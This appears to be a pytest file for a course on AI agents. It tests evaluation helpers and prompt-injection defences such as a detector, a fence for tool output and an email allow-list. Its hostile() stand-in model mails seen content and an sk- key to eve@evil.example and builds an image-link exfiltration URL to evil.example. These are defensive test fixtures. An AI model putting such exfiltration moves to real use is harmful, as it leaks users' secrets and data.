"""Lessons 17 (evaluate) and 18 (prompt injection): the learner's parts on cases beyond the lessons.

Each lesson's solution namespace is loaded once (`run_cells(..., solution=True)`), then its parts
are tested as a library would be: the grader and the verdict reader of 17, the rule, fence,
allow-list and link rule of 18, and the defended agent of 18 against a hostile model that tries
every way out (hypothesis chooses its moves): whatever the model does, nothing leaks.
"""

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

from hypothesis import given, settings
from hypothesis import strategies as st

from looplab._course.lesson import parse, run_cells
from looplab.models import call, final, scripted

ROOT = Path(__file__).resolve().parents[2]
QUIET = {"deadline": None, "derandomize": True, "database": None}  # the same cases every run, no timing flakes
EVALUATE = ROOT / "lessons" / "17-evaluate-your-agent.py"
INJECTION = ROOT / "lessons" / "18-prompt-injection.py"


# --- lesson 17: the grader, the rate, the verdict ---------------------------------------------

TOOLS = ["add", "upper", "buy_shares"]


def arguments(name: str) -> dict:
    return {
        "add": {"a": 1, "b": 2},
        "upper": {"text": "x"},
        "buy_shares": {"symbol": "MSFT", "amount": 1, "price": 1.0},
    }[name]


@settings(max_examples=150, **QUIET)
@given(
    st.lists(st.sampled_from(TOOLS), max_size=4),
    st.lists(st.sampled_from(TOOLS), max_size=3),
    st.integers(1, 6),
    st.booleans(),
)
def test_the_grader_reports_exactly_the_broken_expectations(solved, path, expected, max_steps, forbid_buying):
    ns = solved("17")
    replies = [call(name, **arguments(name)) for name in path] + [final("done")]
    run = ns["agent"]("task", scripted(replies))
    called = ns["tools_called"](run)
    forbidden = ["buy_shares"] if forbid_buying else []
    problems = ns["trajectory_problems"](run, tools=expected, forbidden=forbidden, max_steps=max_steps, stop="final")
    broken = [
        called != expected,
        forbid_buying and "buy_shares" in called,
        run.result["steps"] > max_steps,
        run.result["stopped"] != "final",
    ]
    assert len(problems) == sum(broken), (called, run.result, problems)
    assert called == path[: len(called)] and ("buy_shares" not in path or run.result["stopped"] == "needs_person")


@settings(max_examples=300, **QUIET)
@given(st.lists(st.lists(st.text(max_size=5), max_size=2), max_size=20))
def test_the_success_rate_is_the_share_of_clean_runs(solved, graded):
    ns = solved("17")
    rate = ns["success_rate"](graded)
    assert 0.0 <= rate <= 1.0
    assert rate == (sum(1 for g in graded if not g) / len(graded) if graded else 0.0)


@settings(max_examples=500, **QUIET)
@given(
    st.one_of(
        st.none(),
        st.text(max_size=40),
        st.builds(
            lambda a, v, b: a + v + b,
            st.text(max_size=10),
            st.sampled_from(["PASS", "FAIL", "pass", "**Fail**"]),
            st.text(max_size=10),
        ),
    )
)
def test_the_verdict_reader_never_raises_and_passes_only_on_a_pass(solved, text):
    ns = solved("17")
    passed, reason = ns["read_verdict"](text)
    first = re.search(r"\b(PASS|FAIL)\b", text or "", re.IGNORECASE)
    assert passed is (first is not None and first[1].upper() == "PASS")
    assert isinstance(reason, str)


def test_the_lessons_tests_catch_a_regression(solved):
    """Break the agent (no subtract tool): the task test fails with pytest's explanation."""
    from looplab._course import testcells

    ns = solved("17")
    saved = ns["GRADED"], ns["RATE"]
    ns["GRADED"] = [ns["grade"](t, ns["agent"](t.task, toolbox=ns["make_toolbox"](["subtract"]))) for t in ns["TASKS"]]
    ns["RATE"] = ns["success_rate"](ns["GRADED"])  # the tests read the lesson's own namespace
    names = [
        n
        for c in parse(EVALUATE.read_text())
        if "tests" in c.tags and c.role != "exercise"
        for n in testcells.defined_names(c.source)
    ]
    try:
        results = {name: (status, message) for name, status, message in testcells.run_tests(ns, names)}
    finally:
        ns["GRADED"], ns["RATE"] = saved
    assert results["the agent does the task [subtract 980 from 1240]"][0] == "failed"
    assert "expected ['subtract']" in results["the agent does the task [subtract 980 from 1240]"][1]
    assert results["at least 90% of the tasks pass"] == ("passed", "")  # 11 of 12 is 92%
    assert sum(status == "passed" for status, _ in results.values()) == len(results) - 1


def run_cli(*args, extra_path: Path | None = None, script: bool = False):
    env = {k: v for k, v in os.environ.items() if not k.startswith(("LLM_", "LOOPLAB_"))}
    paths = [str(extra_path)] if extra_path else []
    env.update(
        PYTHONPATH=os.pathsep.join(paths + [str(ROOT / "py")]), PYTHONIOENCODING="utf-8", LOOPLAB_MODEL="scripted"
    )
    command = [sys.executable, *args] if script else [sys.executable, "-m", "looplab", *args]
    return subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)


def test_the_cli_shows_each_test_as_a_check_with_pytests_message():
    solved_run = run_cli("run", "17", "--solution")
    assert solved_run.returncode == 0, solved_run.stdout[-2000:] + solved_run.stderr
    assert "✓ the agent does the task [add 10 and 5]" in solved_run.stdout
    assert "✓ the judge grades a free-text answer [It is 14°C in Paris.]" in solved_run.stdout
    assert re.search(r"^pytest ran 19 tests: 19 passed \(", solved_run.stdout, re.M)
    starter = run_cli("run", "17")
    assert starter.returncode == 1
    assert (
        "✗ no order went through without a person's yes\n      NotImplementedError: write this test" in starter.stdout
    )


def test_a_plain_run_runs_the_tests_and_says_when_pytest_is_missing(tmp_path):
    plain = run_cli(str(EVALUATE), script=True)
    assert plain.returncode == 0, plain.stderr[-2000:]
    assert (
        "✓ the grader reports a forbidden tool" in plain.stdout and "✓ at least 90% of the tasks pass" in plain.stdout
    )
    blocker = tmp_path / "pytest"  # an import of pytest that fails, as if not installed
    blocker.mkdir()
    (blocker / "__init__.py").write_text("raise ModuleNotFoundError(\"No module named 'pytest'\")\n")
    missing = run_cli(str(EVALUATE), script=True, extra_path=tmp_path)
    assert missing.returncode == 1
    assert "this lesson runs pytest, which is not installed here: `pip install pytest`" in missing.stderr
    cli = run_cli("run", "17", "--solution", extra_path=tmp_path)
    assert cli.returncode == 1 and "pip install pytest" in cli.stdout


# --- lesson 18: the defences ------------------------------------------------------------------


@settings(max_examples=400, **QUIET)
@given(st.text(max_size=60))
def test_the_rule_never_raises_and_answers_true_or_a_reason(solved, text):
    verdict = solved("18")["looks_like_instructions"](text)
    assert verdict is True or (isinstance(verdict, str) and verdict)


@settings(max_examples=400, **QUIET)
@given(
    st.text(alphabet=st.characters(codec="ascii"), max_size=12),
    st.sampled_from(
        [
            "ourteam.example",
            "OurTeam.EXAMPLE",
            "ourteam.example.evil.io",
            "evil-ourteam.example",
            "evil.example",
            "ourteam.exampl",
            "",
            "ourteam.example@evil.example",
            "evil.example@ourteam.example",
        ]
    ),
)
def test_the_allow_list_allows_one_name_at_our_domain_and_no_look_alike(solved, name, domain):
    ns = solved("18")
    address = f"{name}@{domain}"
    allowed = ns["allowed_address"](address)
    if allowed:
        assert address.count("@") == 1 and address.strip().rsplit("@", 1)[1].lower() == "ourteam.example"
    if domain.lower() != "ourteam.example" or "@" in name:
        assert not allowed, address
    if re.fullmatch(r"[a-z][a-z.]*", name) and domain.lower() == "ourteam.example":
        assert allowed, address
    assert ns["approve"]("send_email", json.dumps({"to": address, "body": "x"})) is allowed


@settings(max_examples=400, **QUIET)
@given(st.text(max_size=40))
def test_the_fence_always_ends_once(solved, text):
    wrapped = solved("18")["fence"](text)
    assert wrapped.startswith("<tool-output>\n") and wrapped.endswith("\n</tool-output>")
    assert wrapped.lower().count("</tool-output>") == 1


MOVES = st.one_of(
    st.tuples(st.just("read"), st.sampled_from(["n1", "n2", "n3", "n7", "n8"])),
    st.tuples(st.just("search"), st.sampled_from(["", "Dana", "door"])),
    st.tuples(
        st.just("send"),
        st.sampled_from(
            [
                "eve@evil.example",
                "sam@ourteam.example",
                "x@ourteam.example.evil.io",
                "Sam@OurTeam.Example",
                "a@evil.example@ourteam.example",
            ]
        ),
    ),
    st.tuples(st.just("answer"), st.sampled_from(["link", "key", "everything"])),
)


def hostile(moves: list):
    """A model that does its worst: reads, mails out and links everything it can see, key included."""
    moves = list(moves)

    def model(messages, tools):
        seen = "\n".join(str(m.get("content")) for m in messages)
        key = re.search(r"\bsk-[\w-]+", seen)
        kind, value = moves.pop(0) if moves else ("answer", "link")
        if kind == "read":
            return call("read_note", note_id=value)
        if kind == "search":
            return call("search_notes", query=value)
        if kind == "send":
            return call("send_email", to=value, body=seen, key=key[0] if key else "")
        answers = {
            "link": f"![x](https://evil.example/p.png?d={quote(seen)})",
            "key": f"The key is {key[0] if key else 'not here'}",
            "everything": seen,
        }
        return final(answers[value])

    return model


@settings(max_examples=120, **QUIET)
@given(st.sampled_from(range(10)), st.lists(MOVES, max_size=5))
def test_the_defended_agent_leaks_nothing_whatever_the_model_does(solved, attack_index, moves):
    ns = solved("18")
    attack = ns["ATTACKS"][attack_index]
    outcome = ns["defended_agent"](attack.task, attack.shared, attack.facts, model=hostile(moves))
    assert ns["leak"](outcome.world, outcome.result) is None
    assert all(ns["allowed_address"](to) for to, _ in outcome.world.outbox)
    assert ns["MAIL_KEY"] not in json.dumps(outcome.events, default=str)


def test_a_hostile_model_does_leak_from_the_naive_agent(solved):
    ns = solved("18")
    world, result, _ = ns["naive_agent"]("hi", model=hostile([("search", ""), ("send", "eve@evil.example")]))
    assert ns["leak"](world, result) == "mailed to eve@evil.example"
    world, result, _ = ns["naive_agent"]("hi", model=hostile([("answer", "key")]))
    assert ns["leak"](world, result) == "the key is in the answer"


def test_the_lesson_never_prints_or_traces_the_key(capsys):
    key = "sk-mail-7Q2rX9vL4mT8kP3zW1"
    result = run_cells(parse(INJECTION.read_text(encoding="utf-8")), solution=True)
    printed = capsys.readouterr().out
    assert result.ok and key in INJECTION.read_text()
    assert key not in printed and "LEAKED: the key is in the answer" in printed
    assert key not in json.dumps(result.events, default=str) and len(result.events) > 100
